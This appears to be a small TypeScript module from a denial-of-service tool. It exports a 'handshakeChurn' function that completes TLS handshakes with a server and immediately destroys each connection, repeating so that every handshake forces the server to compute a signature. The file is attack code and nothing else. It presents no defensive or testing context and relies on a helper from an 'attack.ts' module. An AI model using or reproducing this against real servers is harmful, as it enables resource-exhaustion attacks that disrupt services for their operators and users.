import { type AttackOptions, onEachConnection } from "./attack.ts";

/** Completes the TLS handshake and closes the connection, again and again: each handshake costs the server a signature. */
export function handshakeChurn(options: AttackOptions): Promise<void> {
  return onEachConnection(options, (socket) => void socket.destroy());
}
